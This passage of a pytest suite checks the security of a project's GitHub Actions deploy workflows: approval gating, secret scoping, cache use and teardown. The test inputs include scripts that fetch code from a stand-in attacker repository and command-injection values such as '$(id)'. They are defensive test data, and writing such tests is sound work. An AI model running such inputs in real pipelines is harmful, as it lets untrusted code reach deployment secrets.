    assert evaluate("github.ref == 'x' && ('y' != 'y' || true)", {"github.ref": "x"}) is True
    with pytest.raises(AssertionError, match="always"):
        evaluate("always() || github.ref == 'x'", {"github.ref": "x"})
    # Known only where the context gives its value, as `runs` does for the status functions.
    assert evaluate("always() && github.ref == 'x'", {"always()": True, "github.ref": "x"}) is True


def test_the_preview_is_cancelled_only_by_a_newer_push_to_its_pull_request() -> None:
    (job,) = load("preview.yml")["jobs"].values()
    assert job["concurrency"] == {
        "group": "pulumi-staging-preview-${{ github.event.pull_request.number }}",
        "cancel-in-progress": True,
    }


# Pull-request stacks (issue 16): a pull request's code deployed with credentials, so by hand on main only, after a
# reviewer approves the commit named before, with the secrets of pull-request stacks and nothing else.


# What the `stack` job may come to once started: approved, then succeeded, failed or cancelled; or rejected, never
# approved, or cancelled while waiting, before any step ran and with no output (GitHub fails a rejected job, and one
# left unapproved for 30 days: its result alone cannot tell an approved deploy that failed from a rejected one).
STACK_OUTCOMES = [
    {"needs.stack.result": result, "needs.stack.outputs.approved": approved}
    for result, approved in (
        ("success", "true"),
        ("failure", "true"),
        ("cancelled", "true"),
        ("failure", None),
        ("cancelled", None),
    )
]


def pr_stack_contexts(workflow: dict[Any, Any]) -> Iterator[dict[str, Any]]:
    """Every way pr-stack.yml can start (`contexts`), with every outcome of its `stack` job."""
    for context in contexts(workflow):
        for outcome in STACK_OUTCOMES:
            yield {**context, **outcome}


def test_a_pull_request_stack_starts_only_by_hand_or_on_schedule_from_main() -> None:
    workflow = load("pr-stack.yml")
    assert set(workflow["on"]) == {"workflow_dispatch", "schedule"}
    inputs = workflow["on"]["workflow_dispatch"]["inputs"]
    assert inputs["pull-request"] == {"description": "Number of the pull request", "type": "number", "required": True}
    assert inputs["action"]["options"] == ["deploy", "destroy"]
    for job in workflow["jobs"]:
        for context in pr_stack_contexts(workflow):
            if runs(workflow, job, context):
                assert context["github.ref"] == MAIN, (job, context)
    # The schedule only starts the clean-up, which holds no secret; by hand, the clean-up does not run.
    scheduled = {
        job
        for job in workflow["jobs"]
        for context in pr_stack_contexts(workflow)
        if context["github.event_name"] == "schedule" and runs(workflow, job, context)
    }
    assert scheduled == {"closed"}
    assert secrets_of(workflow, workflow["jobs"]["closed"]) == set()


def test_a_pull_request_stack_holds_its_own_secrets_only() -> None:
    workflow = load("pr-stack.yml")
    holders = {job: secrets_of(workflow, spec) for job, spec in workflow["jobs"].items() if secrets_of(workflow, spec)}
    assert list(holders) == ["stack"]
    assert workflow["jobs"]["stack"]["environment"] == PULL_REQUEST_STACKS
    assert holders["stack"] <= ENVIRONMENT_SECRETS[PULL_REQUEST_STACKS]
    # Of the names other environments hold, only those every environment holds its own value of.
    others = set().union(*(held for name, held in ENVIRONMENT_SECRETS.items() if name != PULL_REQUEST_STACKS))
    assert ENVIRONMENT_SECRETS[PULL_REQUEST_STACKS] & others == {
        "PULUMI_BACKEND_URL",
        "HCLOUD_TOKEN",
        "CLOUDFLARE_API_TOKEN",
        "DEPLOY_SSH_KEY",
    }
    for job, spec in workflow["jobs"].items():
        assert GITHUB_HOSTED.match(spec["runs-on"]), job


def test_a_pull_requests_code_is_checked_out_only_after_approval_and_contained() -> None:
    assert untrusted_checkouts(current()) == []
    (checkout,) = [
        step
        for _, step in steps(load("pr-stack.yml"))
        if step.get("uses", "").startswith("actions/checkout@") and "ref" in step.get("with", {})
    ]
    assert checkout["with"] == {"ref": "${{ needs.pull-request.outputs.sha }}", "persist-credentials": False}
    assert checkout["if"] == "inputs.action == 'deploy'"
    # The commit it names is read before the approval, by a job that holds no secret and runs no code of it.
    naming = load("pr-stack.yml")["jobs"]["pull-request"]
    assert "environment" not in naming and not any("uses" in step for step in naming["steps"])

    def changed(job_change: dict[str, Any], step_change: dict[str, Any] | None = None) -> list[str]:
        workflows = current()
        job = workflows["pr-stack.yml"]["jobs"]["stack"]
        job.update(job_change)
        (step,) = [step for step in job["steps"] if "ref" in step.get("with", {})]
        step["with"].update(step_change or {})
        return untrusted_checkouts(workflows)

    where = "pr-stack.yml stack"
    assert changed({"environment": "staging"}) == [f"{where}: checks out a pull request outside pull-request-stacks"]
    assert changed({"runs-on": ["self-hosted"]}) == [f"{where}: checks out a pull request on ['self-hosted']"]
    assert changed({"permissions": {"contents": "write"}}) == [
        f"{where}: checks out a pull request with permissions {{'contents': 'write'}}"
    ]
    assert changed({}, {"persist-credentials": True}) == [f"{where}: leaves the token in a pull request's checkout"]
    # Whatever the pull request's head is once approved, or a branch named by hand, is not what a reviewer saw.
    for ref in ("refs/pull/7/head", "${{ inputs.ref }}", "${{ github.event.pull_request.head.sha }}"):
        assert changed({}, {"ref": ref}) == [
            f"{where}: checks out {{'ref': '{ref}', 'persist-credentials': False}}, "
            "not a commit a job before the approval named"
        ]
    # The preview of issue 18, checking out the pull request's head on the deploy runner, is caught on every count.
    head = as_in_issue_18()
    head["preview.yml"]["jobs"]["preview"]["steps"][0]["with"] = {"ref": "${{ github.event.pull_request.head.sha }}"}
    assert len(untrusted_checkouts(head)) == 6


@pytest.mark.parametrize(
    "script",
    [
        "git fetch origin refs/pull/7/head && git checkout FETCH_HEAD",
        "git fetch origin pull/7/head:pr",
        "gh pr checkout 7",
        "git switch pr",
        "git -C . checkout FETCH_HEAD",
        "git reset --hard origin/feature",
        "git pull origin feature",
        "git clone https://github.com/attacker/repo",
        "curl -fsS https://github.com/owner/repo/archive/refs/pull/7/head.tar.gz | tar -x",
        ".venv/bin/pip install git+https://github.com/owner/repo@refs/heads/feature",
        "make venv\npython -m pip install --quiet 'pkg @ git+https://github.com/attacker/pkg'",
    ],
)
def test_no_secret_holding_job_brings_in_other_code_by_script(script: str) -> None:
    """Finding 3: the checks above see actions/checkout only; a `run:` step doing the same in a job that holds
    secrets went unseen. Such a script is caught in every job holding a secret or a token that writes, the
    approved pull-request stack's included (it checks out with actions/checkout, where the rules above apply)."""
    assert untrusted_checkouts(current()) == []
    for workflow, job in (
        ("pr-stack.yml", "stack"),
        ("deploy.yml", "production"),
        ("deploy.yml", "staging"),
        ("preview.yml", "staging"),
        ("pr-stack.yml", "label"),
    ):
        workflows = current()
        workflows[workflow]["jobs"][job]["steps"].insert(1, {"name": "More code", "run": script})
        (found,) = untrusted_checkouts(workflows)
        assert found.startswith(f"{workflow} {job}: a script brings in other code ("), found
    # Where nothing is held, a script may fetch: check.yml reads the base branch's list with git.
    workflows = current()
    workflows["check.yml"]["jobs"]["test"]["steps"].insert(1, {"run": script})
    assert untrusted_checkouts(workflows) == []
    assert "git show" in check_step(DIFF_STEP)["run"]


def test_no_workflow_uses_the_actions_cache() -> None:
    """Finding 2. Approved pull-request code runs in pr-stack.yml's `stack` job, in a run whose ref is main, and
    Actions caches are scoped by ref: an entry a run of main saves, every later run of main restores (and every
    branch; GitHub: "Restrictions for accessing a cache"), the deploy runs included. That code can reach the cache
    service (an action's runtime token is in the environment of what the action starts, `pulumi up` among them),
    so it could leave an entry for a deploy to restore on the deploy runner. What stops that is that nothing
    restores one: no workflow uses actions/cache (any version, restore and save included), nor the cache of a
    setup action (its `cache:` input, or setup-go's cache, on unless turned off)."""
    assert cache_users(current()) == []
    for change, expected in (
        ({"uses": "actions/cache@v4", "with": {"path": ".venv", "key": "venv"}}, "uses actions/cache"),
        ({"uses": "actions/cache/restore@v4", "with": {"path": ".venv", "key": "venv"}}, "uses actions/cache/restore"),
        ({"uses": "actions/setup-python@v5", "with": {"python-version": "3.11", "cache": "pip"}}, "cache: pip"),
        ({"uses": "actions/setup-node@v4", "with": {"cache": "npm"}}, "cache: npm"),
        ({"uses": "actions/setup-go@v5", "with": {"go-version": "1.24"}}, "caches by default"),
    ):
        for workflow, job in (("pr-stack.yml", "stack"), ("deploy.yml", "staging"), ("check.yml", "test")):
            workflows = current()
            workflows[workflow]["jobs"][job]["steps"].insert(1, change)
            (found,) = cache_users(workflows)
            assert found.startswith(f"{workflow} {job}: ") and expected in found, found
    # Turned off, a setup action's cache is no use of it.
    workflows = current()
    workflows["deploy.yml"]["jobs"]["staging"]["steps"].insert(
        1, {"uses": "actions/setup-go@v5", "with": {"cache": False}}
    )
    assert cache_users(workflows) == []


def cache_users(workflows: Mapping[str, dict[Any, Any]]) -> list[str]:
    """Steps that save or restore an Actions cache (see test_no_workflow_uses_the_actions_cache)."""
    found = []
    for name, _, job_name, job in jobs_of(workflows):
        for step in job.get("steps", []):
            action = str(step.get("uses", "")).split("@")[0]
            settings = step.get("with") or {}
            where = f"{name} {job_name}"
            if action == "actions/cache" or action.startswith("actions/cache/"):
                found.append(f"{where}: uses {action}")
            elif action.startswith("actions/setup-"):
                cache = settings.get("cache", True if action == "actions/setup-go" else None)
                if cache not in (None, False, "", "false"):
                    found.append(
                        f"{where}: {action} cache: {cache}"
                        if "cache" in settings
                        else f"{where}: {action} caches by default"
                    )
    return found


RESOLVE_STEP = "The pull request, and the commit a reviewer approves"
SHA = "0123456789abcdef0123456789abcdef01234567"
# The tip of the pull request's base branch, and where the pull request left it.
BASE_SHA = "89abcdef0123456789abcdef0123456789abcdef"
MERGE_BASE = "fedcba9876543210fedcba9876543210fedcba98"
OPEN = {"state": "open", "head": {"sha": SHA}, "base": {"sha": BASE_SHA}}


def fake_gh(tmp_path: Path, pull: dict[str, Any], labels: str = "", merge_base: str = MERGE_BASE) -> Path:
    """A stand-in `gh` that logs its arguments and answers for pull request 7."""
    log = tmp_path / "gh.log"
    return fake_commands(
        tmp_path / "bin",
        {
            "gh": f'echo "gh $*" >>{log}\n'
            f'case "$*" in\n'
            f"  'api repos/owner/repo/pulls/7') echo '{json.dumps(pull)}' ;;\n"
            f"  'api repos/owner/repo/compare/{BASE_SHA}...{SHA} --jq .merge_base_commit.sha') echo '{merge_base}' ;;\n"
            f"  'api repos/owner/repo/issues/7/labels --jq .[].name') printf '%s\\n' {labels} ;;\n"
            "  'pr list'*) printf '12\\n15\\n' ;;\n"
            "esac"
        },
    )


def resolve(
    tmp_path: Path, number: str, action: str, pull: dict[str, Any], merge_base: str = MERGE_BASE
) -> tuple[int, dict[str, str], str, str]:
    workflow = load("pr-stack.yml")
    env = {"REPOSITORY": "owner/repo", "SERVER": "https://github.com", "NUMBER": number, "ACTION": action}
    fakes = fake_gh(tmp_path, pull, merge_base=merge_base)
    result, outputs = run_script(workflow, named_step(workflow, "pull-request", RESOLVE_STEP), tmp_path, env, fakes)
    log = tmp_path / "gh.log"
    summary = tmp_path / ".github-files" / "summary"
    return (
        result.returncode,
        outputs,
        log.read_text() if log.exists() else "",
        summary.read_text() if summary.exists() else "",
    )


def test_the_commit_to_deploy_is_named_and_shown_before_the_approval(tmp_path: Path) -> None:
    status, outputs, calls, summary = resolve(tmp_path, "7", "deploy", OPEN)
    assert status == 0
    assert outputs == {"number": "7", "sha": SHA}
    # Nothing but reads before the approval: no label (the `label` job adds it once a deploy was approved).
    assert calls.splitlines() == [
        "gh api repos/owner/repo/pulls/7",
        f"gh api repos/owner/repo/compare/{BASE_SHA}...{SHA} --jq .merge_base_commit.sha",
    ]
    assert f"pr-7: deploys {SHA}" in summary


def test_the_reviewer_is_shown_the_whole_pull_request_not_its_last_commit(tmp_path: Path) -> None:
    """Finding 1: `pull/<n>/files/<sha>` shows the changes of the last commit only, so a harmful commit followed by a
    harmless one was approved on the harmless diff. The link is the comparison from the merge base to the commit."""
    _, _, _, summary = resolve(tmp_path, "7", "deploy", OPEN)
    links = re.findall(r"\]\((https://[^)]+)\)", summary)
    assert links == [
        "https://github.com/owner/repo/pull/7",
        f"https://github.com/owner/repo/compare/{MERGE_BASE}...{SHA}",
    ]
    assert f"[the whole pull request at {SHA}]" in summary
    assert "/files/" not in summary


@pytest.mark.parametrize(
    ("pull", "merge_base"),
    [
        ({**OPEN, "base": {}}, MERGE_BASE),
        ({**OPEN, "base": {"sha": "main"}}, MERGE_BASE),
        (OPEN, ""),
        (OPEN, "null"),
        (OPEN, f"{MERGE_BASE}) [x](https://example.com"),
    ],
)
def test_no_comparison_no_approval(tmp_path: Path, pull: dict[str, Any], merge_base: str) -> None:
    """Without a base commit and a merge base, each 40 hex digits, there is nothing sound to show: the run stops."""
    status, outputs, _, summary = resolve(tmp_path, "7", "deploy", pull, merge_base)
    assert status == 1 and outputs == {} and summary == ""


@pytest.mark.parametrize("number", ["", "0", "07", "-1", "7 ", "7;id", "$(id)", "1e3", "1234567890"])
def test_only_a_pull_request_number_names_a_stack(tmp_path: Path, number: str) -> None:
    status, outputs, calls, _ = resolve(tmp_path, number, "deploy", OPEN)
    assert status == 1 and outputs == {} and calls == ""


def test_a_closed_pull_request_gets_no_stack_but_may_lose_one(tmp_path: Path) -> None:
    closed = {"state": "closed", "head": {"sha": SHA}}
    status, outputs, calls, _ = resolve(tmp_path, "7", "deploy", closed)
    assert status == 1 and outputs == {} and "labels" not in calls
    status, outputs, calls, summary = resolve(tmp_path / "destroy", "7", "destroy", closed)
    assert status == 0 and outputs == {"number": "7", "sha": SHA}
    assert calls.splitlines() == ["gh api repos/owner/repo/pulls/7"] and summary == ""


PREPARE_STEP = "The stack and its settings, from Pulumi.staging.yaml"
TEARDOWN_STEP = "What needs SSH goes with the server"


def fake_pulumi(tmp_path: Path, stacks: str = "[]", state: str = "{}") -> Path:
    """A stand-in `pulumi` that logs its arguments and answers like the CLI for the shipped staging settings."""
    log = tmp_path / "pulumi.log"
    cidrs = json.dumps(["203.0.113.0/24", "2001:db8:1234::/48"])
    keys = json.dumps([{"name": "alice", "publicKey": "ssh-ed25519 AAAA alice"}])
    return fake_commands(
        tmp_path / "bin",
        {
            "pulumi": f'printf "pulumi %s\\n" "$*" >>{log}\n'
            'case "$*" in\n'
            f"  'config get --stack pr-7 hetzner-coolify:adminCidrs') echo '{cidrs}' ;;\n"
            f"  'config get --stack pr-7 hetzner-coolify:adminSshKeys') echo '{keys}' ;;\n"
            f"  'stack ls --json') echo '{stacks}' ;;\n"
            f"  'stack export') echo '{state}' ;;\n"
            "esac",
            "curl": 'echo "curl $*" >>' + str(tmp_path / "curl.log") + "\necho 198.51.100.7",
            "ssh-add": "[[ $1 == -L ]] && printf 'ssh-ed25519 AAAACI ci\\nssh-rsa AAAAB other\\n'",
        },
    )


def prepare(tmp_path: Path, staging: str, domain: str = "", curl: str | None = None) -> tuple[int, str, str, Path]:
    workflow = load("pr-stack.yml")
    tree = tmp_path / "tree"
    tree.mkdir(parents=True, exist_ok=True)
    (tree / "Pulumi.staging.yaml").write_text(staging)
    fakes = fake_pulumi(tmp_path)
    if curl is not None:
        fake_commands(fakes, {"curl": f"echo '{curl}'"})
    env = {"STACK": "pr-7", "DOMAIN": domain, "PULUMI_BACKEND_URL": "s3://b", "PULUMI_CONFIG_PASSPHRASE": "p"}
    result, _ = run_script(workflow, named_step(workflow, "stack", PREPARE_STEP), tree, env, fakes)
    log = tmp_path / "pulumi.log"
    return result.returncode, result.stdout, log.read_text() if log.exists() else "", tree


STAGING_FILE = (
    "encryptionsalt: v1:abc\nconfig:\n  hetzner-coolify:domain: example.com\n"
    "  hetzner-coolify:adminCidrs:\n    - 203.0.113.0/24\n"
)


def test_a_pull_request_stack_starts_from_stagings_plain_settings(tmp_path: Path) -> None:
    status, _, calls, tree = prepare(tmp_path, STAGING_FILE)
    assert status == 0
    assert (tree / "Pulumi.pr-7.yaml").read_text() == STAGING_FILE.removeprefix("encryptionsalt: v1:abc\n")
    setting = "pulumi config set --stack pr-7 --plaintext --path hetzner-coolify:"
    assert calls.splitlines() == [
        "pulumi stack select --create pr-7 --secrets-provider passphrase",
        f"{setting}environment staging",
        f"{setting}dns.namespace pr-7",
        f"{setting}backups.enabled false",
        f"{setting}protection.protect false",
        f"{setting}protection.deleteProtection false",
        # No domain of its own: sslip.io names, and no DNS token needed.
        "pulumi config rm --stack pr-7 hetzner-coolify:domain",
        "pulumi config get --stack pr-7 hetzner-coolify:adminCidrs",
        f"{setting}adminCidrs[2] 198.51.100.7/32",
        "pulumi config get --stack pr-7 hetzner-coolify:adminSshKeys",
        f"{setting}adminSshKeys[1].name ci-pull-request",
        f"{setting}adminSshKeys[1].publicKey ssh-ed25519 AAAACI ci",
    ]
    outputs = (tree / ".github-files" / "output").read_text()
    assert outputs == "policy-config=policies/config/staging.json\n"


def test_a_pull_request_stack_takes_the_domain_and_policy_configuration_given_it(tmp_path: Path) -> None:
    (tmp_path / "tree" / "policies" / "config").mkdir(parents=True)
    (tmp_path / "tree" / "policies" / "config" / "pr-7.json").write_text("{}")
    status, _, calls, tree = prepare(tmp_path, STAGING_FILE.replace("encryptionsalt: v1:abc\n", ""), "pr.example.net")
    assert status == 0
    assert "pulumi config set --stack pr-7 --plaintext --path hetzner-coolify:domain pr.example.net" in calls
    assert "config rm" not in calls
    assert (tree / ".github-files" / "output").read_text() == "policy-config=policies/config/pr-7.json\n"


def test_a_pull_request_stack_is_never_protected_whatever_its_staging_file_says(tmp_path: Path) -> None:
    """Finding 4: `protection.protect` retains the volume on delete (components/data_services.py), which `pulumi
    destroy` then leaves behind; `protection.deleteProtection` makes Hetzner refuse every destroy. The pull request's
    own file may set both: the stack file keeps them, and the settings made after override them."""
    protected = STAGING_FILE + "  hetzner-coolify:protection:\n    protect: true\n    deleteProtection: true\n"
    status, _, calls, tree = prepare(tmp_path, protected)
    assert status == 0
    assert "protect: true" in (tree / "Pulumi.pr-7.yaml").read_text()
    setting = "pulumi config set --stack pr-7 --plaintext --path hetzner-coolify:"
    lines = calls.splitlines()
    created = lines.index("pulumi stack select --create pr-7 --secrets-provider passphrase")
    for forced in (f"{setting}protection.protect false", f"{setting}protection.deleteProtection false"):
        assert lines.index(forced) > created
    assert [line for line in lines if "protection" in line] == [
        f"{setting}protection.protect false",
        f"{setting}protection.deleteProtection false",
    ]


def test_stagings_encrypted_values_are_not_carried(tmp_path: Path) -> None:
    secret = STAGING_FILE + "  hetzner-coolify:coolifyApiToken:\n    secure: v1:AAAA\n"
    status, stdout, calls, tree = prepare(tmp_path, secret)
    assert status == 1 and "values encrypted for staging" in stdout
    assert calls == "" and not (tree / "Pulumi.pr-7.yaml").exists()


@pytest.mark.parametrize("answer", ["", "<html>", "2001:db8::1", "198.51.100.7/0"])
def test_ssh_is_opened_to_this_runners_address_only(tmp_path: Path, answer: str) -> None:
    status, stdout, calls, _ = prepare(tmp_path, STAGING_FILE, curl=answer)
    assert status == 1 and "address could not be learnt" in stdout
    assert "adminCidrs[" not in calls


def teardown(tmp_path: Path, stacks: str, state: str) -> tuple[int, dict[str, str], list[str]]:
    workflow = load("pr-stack.yml")
    tree = tmp_path / "tree"
    tree.mkdir(parents=True)
    fakes = fake_pulumi(tmp_path, stacks, state)
    result, outputs = run_script(workflow, named_step(workflow, "stack", TEARDOWN_STEP), tree, {"STACK": "pr-7"}, fakes)
    log = tmp_path / "pulumi.log"
    return result.returncode, outputs, log.read_text().splitlines() if log.exists() else []


def test_a_destroy_needs_no_ssh_and_no_pull_requests_code(tmp_path: Path) -> None:
    docker = "urn:pulumi:pr-7::hetzner-coolify::pulumi:providers:docker::data-docker"
    state = json.dumps(
        {
            "deployment": {
                "resources": [
                    {"urn": "urn:pulumi:pr-7::hetzner-coolify::hcloud:index/server:Server::host", "type": "x"},
                    {"urn": docker, "type": "pulumi:providers:docker"},
                ]
            }
        }
    )
    status, outputs, calls = teardown(tmp_path, json.dumps([{"name": "pr-7"}, {"name": "pr-8"}]), state)
    assert status == 0 and outputs == {"exists": "true"}
    assert calls == [
        "pulumi stack ls --json",
        "pulumi stack select pr-7",
        "pulumi stack export",
        "pulumi state unprotect --all --yes",
        f"pulumi state delete --yes --target-dependents {docker}",
    ]
    status, outputs, calls = teardown(tmp_path / "gone", json.dumps([{"name": "pr-8"}]), "{}")
    assert status == 0 and outputs == {"exists": "false"} and calls == ["pulumi stack ls --json"]
    # The destroy checks out main, runs `pulumi destroy` and `stack rm`, and never the pull request's program.
    job = load("pr-stack.yml")["jobs"]["stack"]
    destroying = [step for step in job["steps"] if "destroy" in step.get("if", "")]
    assert [step.get("name") or step["uses"].split("@")[0] for step in destroying] == [
        "main, for a destroy",
        TEARDOWN_STEP,
        "pulumi/actions",
        "The stack itself",
    ]
    assert destroying[2]["with"]["command"] == "destroy"
    assert destroying[3]["run"] == 'pulumi stack rm --yes "$STACK"'
    assert "ref" not in destroying[0]["with"]


def test_a_destroy_stops_on_a_resource_retained_on_delete(tmp_path: Path) -> None:
    """Finding 4: a resource retained on delete (the pull request's code may retain one, whatever the settings) would
    outlive `pulumi destroy` without a word. The teardown names it and stops before changing anything."""
    volume = "urn:pulumi:pr-7::hetzner-coolify::hcloud:index/volume:Volume::data"
    resources: list[dict[str, Any]] = [
        {"urn": "urn:pulumi:pr-7::hetzner-coolify::hcloud:index/server:Server::host", "type": "x", "protect": True},
        {"urn": volume, "type": "hcloud:index/volume:Volume", "retainOnDelete": True},
        {"urn": "urn:pulumi:pr-7::hetzner-coolify::pulumi:providers:docker::d", "type": "pulumi:providers:docker"},
    ]
    state = json.dumps({"deployment": {"resources": resources}})
    status, outputs, calls = teardown(tmp_path, json.dumps([{"name": "pr-7"}]), state)
    assert status == 1 and outputs == {}
    assert calls == ["pulumi stack ls --json", "pulumi stack select pr-7", "pulumi stack export"]
    workflow = load("pr-stack.yml")
    tree = tmp_path / "again"
    tree.mkdir()
    fakes = fake_pulumi(tree, json.dumps([{"name": "pr-7"}]), state)
    result, _ = run_script(workflow, named_step(workflow, "stack", TEARDOWN_STEP), tree, {"STACK": "pr-7"}, fakes)
    assert f"::error::{volume} is retained on delete" in result.stdout
    # Without it (false, or absent as Pulumi leaves it), the teardown goes on.
    resources[1]["retainOnDelete"] = False
    status, outputs, _ = teardown(
        tmp_path / "kept", json.dumps([{"name": "pr-7"}]), json.dumps({"deployment": {"resources": resources}})
    )
    assert status == 0 and outputs == {"exists": "true"}


def test_closed_pull_requests_get_a_destroy_run_each(tmp_path: Path) -> None:
    workflow = load("pr-stack.yml")
    (step,) = workflow["jobs"]["closed"]["steps"]
    fakes = fake_gh(tmp_path, {})
    result, _ = run_script(workflow, step, tmp_path, {"GH_TOKEN": "t", "REPOSITORY": "owner/repo"}, fakes)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "gh.log").read_text().splitlines() == [
        "gh pr list --repo owner/repo --state closed --label pr-stack --limit 100 --json number --jq .[].number",
        "gh workflow run pr-stack.yml --repo owner/repo --ref main -f pull-request=12 -f action=destroy",
        "gh workflow run pr-stack.yml --repo owner/repo --ref main -f pull-request=15 -f action=destroy",
    ]


def test_a_pull_request_is_labelled_for_the_clean_up_only_once_its_deploy_was_approved(tmp_path: Path) -> None:
    """Finding 5: the label was added before the approval, so a deploy rejected or never approved labelled the pull
    request, and once closed it got a daily destroy run, waiting for a reviewer, of a stack that never existed. The
    `label` job runs after the deploy job, once that was approved (a failed deploy may have left resources)."""
    workflow = load("pr-stack.yml")
    label = workflow["jobs"]["label"]
    needs = [label["needs"]] if isinstance(label["needs"], str) else label["needs"]
    assert "stack" in needs
    # No secret, no environment, no code of the pull request, GitHub's runner, the label and nothing else.
    assert secrets_of(workflow, label) == set() and "environment" not in label
    assert not any("uses" in step for step in label["steps"])
    assert GITHUB_HOSTED.match(label["runs-on"]) and label["permissions"] == {"issues": "write"}

    def labelled(jobs: dict[str, Any]) -> set[tuple[str | None, ...]]:
        return {
            (
                context["github.event_name"],
                context["github.ref"],
                context["inputs.action"],
                context["needs.stack.result"],
                context["needs.stack.outputs.approved"],
            )
            for context in pr_stack_contexts({**workflow, "jobs": jobs})
            if runs({**workflow, "jobs": jobs}, "label", context)
        }

    approved = {("workflow_dispatch", MAIN, "deploy", result, "true") for result in ("success", "failure", "cancelled")}
    assert labelled(workflow["jobs"]) == approved
    # The deploy job's result alone would label a rejected deploy: GitHub fails a rejected job.
    by_result = copy.deepcopy(workflow["jobs"])
    by_result["label"]["if"] = (
        "always() && github.ref == 'refs/heads/main' && github.event_name == 'workflow_dispatch'"
        " && inputs.action == 'deploy' && (needs.stack.result == 'success' || needs.stack.result == 'failure')"
    )
    assert ("workflow_dispatch", MAIN, "deploy", "failure", None) in labelled(by_result)
    # What tells them apart: the deploy job's first step, which only an approved job runs, before any code of the
    # pull request; its output reaches the `label` job whatever the deploy came to.
    stack = workflow["jobs"]["stack"]
    assert stack["steps"][0] == {
        "name": "Approved",
        "id": "approved",
        "if": "inputs.action == 'deploy'",
        "run": 'echo "approved=true" >>"$GITHUB_OUTPUT"',
    }
    assert stack["outputs"] == {"approved": "${{ steps.approved.outputs.approved }}"}
    # The job adds the label; the job before the approval cannot.
    (step,) = label["steps"]
    env = {"GH_TOKEN": "t", "REPOSITORY": "owner/repo", "NUMBER": "7"}
    result, _ = run_script(workflow, step, tmp_path, env, fake_gh(tmp_path, {}))
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "gh.log").read_text().splitlines() == [
        "gh api --method POST repos/owner/repo/issues/7/labels -f labels[]=pr-stack"
    ]
    assert "issues" not in workflow["jobs"]["pull-request"]["permissions"]


@pytest.mark.parametrize("labels", ["pr-stack", "bug"])
def test_a_destroyed_stack_leaves_no_label_behind(tmp_path: Path, labels: str) -> None:
    workflow = load("pr-stack.yml")
    (step,) = workflow["jobs"]["untrack"]["steps"]
    env = {"GH_TOKEN": "t", "REPOSITORY": "owner/repo", "NUMBER": "7"}
    result, _ = run_script(workflow, step, tmp_path, env, fake_gh(tmp_path, {}, labels))
    assert result.returncode == 0, result.stderr
    deleted = "gh api --method DELETE repos/owner/repo/issues/7/labels/pr-stack"
    assert (deleted in (tmp_path / "gh.log").read_text()) is (labels == "pr-stack")
    assert workflow["jobs"]["untrack"]["needs"] == ["pull-request", "stack"]


def ci_section() -> str:
    return PROJECT_DIR.joinpath("README.md").read_text().split("## CI/CD", 1)[1].split("\n## ", 1)[0]


def test_the_readme_says_where_each_secret_lives() -> None:
    """The README names a stack's environment by the stack's own environment (`staging`, `production`): a stack added
    to the list takes the secrets of that row under the same names, in an environment named after it."""
    workflows = current()
    where: dict[str, set[str | None]] = {}
    for _, workflow, job_name, job in jobs_of(workflows):
        for secret in secrets_of(workflow, job) - WITHOUT_ENVIRONMENT:
            entered = environments_of(workflow, job_name)
            where.setdefault(secret, set()).update(ENVIRONMENT_OF.get(str(name), name) for name in entered)
    # Rows of the secrets table: | `NAME`, `NAME` | `environment`, ... | what it is |
    rows = {
        secret: set(re.findall(r"`([a-z-]+)`", cells[2]))
        for cells in (line.split("|") for line in ci_section().splitlines())
        if len(cells) > 3 and re.fullmatch(r"\s*`[A-Z][A-Z0-9_]+`(, `[A-Z][A-Z0-9_]+`)*\s*", cells[1])
        for secret in re.findall(r"`([A-Z0-9_]+)`", cells[1])
    }
    assert rows == where
    for environment, held in ENVIRONMENT_SECRETS.items():
        shown = ENVIRONMENT_OF.get(environment, environment)
        assert held == {secret for secret, environments in rows.items() if shown in environments}, environment


def test_the_readme_says_what_a_pull_request_stack_really_gets() -> None:
    """The review's wording findings: the reviewer reads the whole pull request, the runner's address outlives the
    run, a destroy runs none of the pull request's program but may run what its state recorded, and the manual
    teardown needs the stack file back first."""
    section = " ".join(ci_section().split())
    assert "linked to the whole pull request at that commit" in section and "read the whole change" in section
    assert "changes at that commit" not in section
    assert "to `adminCidrs` for the run" not in section
    assert "stays in the stack's firewall until its next deploy" in section and "SSH takes keys only" in section
    assert "a destroy runs no program" not in section
    assert "runs no program of the pull request's (a dynamic provider" in section
    assert "recreate the stack file first, with `pulumi config refresh`" in section
